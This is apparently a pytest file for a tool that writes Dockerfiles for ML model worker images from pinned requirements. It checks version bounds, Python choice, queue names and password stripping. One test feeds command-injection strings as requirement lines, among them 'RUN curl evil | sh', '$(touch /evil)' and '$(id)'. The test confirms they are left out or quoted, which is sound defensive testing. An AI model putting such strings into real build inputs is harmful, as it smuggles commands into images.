"""The Dockerfile of a model's worker image."""

import re
import shlex
from pathlib import Path

import pytest

from producer.image import Plan, dockerfile, own_bounds, plan, slug
from producer.model_requirements import Needs
from pyfunq.model_uri import parse_model_uri

DEPLOYED = (Path(__file__).parents[2] / "deploy" / "Dockerfile").read_text()
BOUNDS = ["mlflow!=3.18.0,>=3.17", "pandas>=2.2", "celery[redis]>=5.7"]


def planned(*requirements: str, python: str | None = "3.12.4", uri: str = "models:/iris@champion") -> Plan:
    return plan(Needs(uri=parse_model_uri(uri), requirements=requirements, python=python), BOUNDS)


def installed(text: str) -> list[str]:
    """What the image's pip is asked to install."""
    joined = text.replace("\\\n", " ")
    (line,) = [line for line in joined.splitlines() if "install '.[worker]'" in line]
    words = shlex.split(line)
    return words[words.index(".[worker]") + 1 :]


def instructions(text: str) -> list[str]:
    joined = re.sub(r"\\\n\s*", "", re.sub(r"^#.*\n", "", text, flags=re.MULTILINE))
    return [line for line in joined.splitlines() if line]


def test_it_installs_what_the_model_pins() -> None:
    text = dockerfile(
        planned("scikit-learn==1.5.0", "scipy>1,<2 ; python_version > '3'", "pandas==2.3.0"), "Dockerfile"
    )
    assert installed(text) == ["scikit-learn==1.5.0", 'scipy<2,>1; python_version > "3"', "pandas==2.3.0"]


def test_but_for_that_it_is_the_image_that_is_deployed() -> None:
    """The final stage, and what is copied: so that both images run the same programs in the same way."""
    ours, theirs = instructions(dockerfile(planned(), "Dockerfile")), instructions(DEPLOYED)
    assert ours[ours.index("FROM python:3.12-slim") : -1] == theirs[theirs.index("FROM python:3.12-slim") : -1]
    assert [i for i in ours if i.startswith("COPY")] == [i for i in theirs if i.startswith("COPY")]
    assert ours[-1] == 'CMD ["worker", "--queues", "model.iris"]'


@pytest.mark.parametrize(
    ("made_with", "runs"),
    [("3.11.7", "3.11"), ("3.13.0", "3.13"), ("3.9.18", "3.12"), ("3.14.0", "3.12"), (None, "3.12")],
)
def test_it_has_the_models_python_where_pyfunq_runs_on_it(made_with: str | None, runs: str) -> None:
    text = dockerfile(planned(python=made_with), "Dockerfile")
    assert re.findall(r"^FROM python:(\S+)-slim", text, re.MULTILINE) == [runs, runs]


@pytest.mark.parametrize(
    ("line", "fits"),
    [
        ("mlflow==3.17.2", True),
        ("mlflow==3.18.0", False),
        ("mlflow==2.9.2", False),
        ("mlflow<3", False),
        ("mlflow>=2", True),
        ("pandas<3", True),
        ("pandas<=2.2", True),
        ("pandas<2.2", False),
        ("Celery==5.6", False),
        ("xgboost==1.0", True),
        ("pandas==2.*", True),
    ],
)
def test_what_contradicts_pyfunq_is_left_out_and_said(line: str, fits: bool) -> None:
    result = planned(line)
    assert (len(result.requirements), len(result.left_out)) == ((1, 0) if fits else (0, 1))
    if not fits:
        assert line in result.left_out[0]
        assert f"# Left out: {line}" in dockerfile(result, "Dockerfile")


@pytest.mark.parametrize(
    "line",
    [
        "x==1\nRUN curl evil | sh",
        "x==1'; touch /evil; '",
        "$(touch /evil)",
        "code/wheel-1.0-py3-none-any.whl",
        "x==1 \\",
        "x\u2028==1",
    ],
)
def test_a_requirement_is_never_more_than_one(line: str) -> None:
    text = dockerfile(planned(line, "numpy==2.0.0"), "Dockerfile")
    assert installed(text) == ["numpy==2.0.0"]
    assert instructions(text) == instructions(dockerfile(planned("numpy==2.0.0"), "Dockerfile"))


def test_a_requirement_with_an_address_is_one_word_for_the_shell() -> None:
    line = "tool @ https://example.org/tool.zip?a=1&b=$(id)"
    assert installed(dockerfile(planned(line), "Dockerfile")) == [line]


def test_no_password_gets_into_an_image() -> None:
    for line in ("tool @ https://me:hidden@example.org/tool.zip", "https://me:hidden@example.org/x.zip"):
        result = planned(line)
        assert "example.org" in result.left_out[0]
        assert "hidden" not in dockerfile(result, "Dockerfile") + result.left_out[0]


def test_a_library_of_the_system_comes_along() -> None:
    assert "apt-get install -y --no-install-recommends libgomp1" in dockerfile(planned("LightGBM==4.6.0"), "Dockerfile")
    assert "apt-get" not in dockerfile(planned("xgboost==3.0.0"), "Dockerfile")


def test_names_that_queues_and_images_can_have() -> None:
    assert slug("Umsatz (Süd) 2.1") == "Umsatz-S-d-2-1"
    assert slug("bulk") == "bulk-"
    assert len(slug("x" * 256)) <= 80
    assert planned(uri="models:/_Big Model/3").queue == "model._Big-Model"
    assert planned(uri="models:/_Big Model/3").image == "pyfunq-big-model"
    assert planned(uri="models:/m-" + "0" * 32).queue == "model.m-" + "0" * 32


@pytest.mark.parametrize(
    ("tag", "queue"), [("model.fast", "model.fast"), ("bulk", "model.iris"), ('"]\nX', "model.iris")]
)
def test_the_queue_is_that_of_the_tag(tag: str, queue: str) -> None:
    needs = Needs(uri=parse_model_uri("models:/iris/1"), requirements=(), python=None, queue=tag)
    assert dockerfile(plan(needs, BOUNDS), "Dockerfile").endswith(f'CMD ["worker", "--queues", "{queue}"]\n')


def test_pyfunqs_own_bounds_are_those_of_its_worker() -> None:
    bounds = own_bounds()
    assert any(b.startswith("mlflow") for b in bounds)
    assert any(b.startswith("asyncpg") for b in bounds)
    assert not any(b.startswith(("pytest", "matplotlib")) for b in bounds)
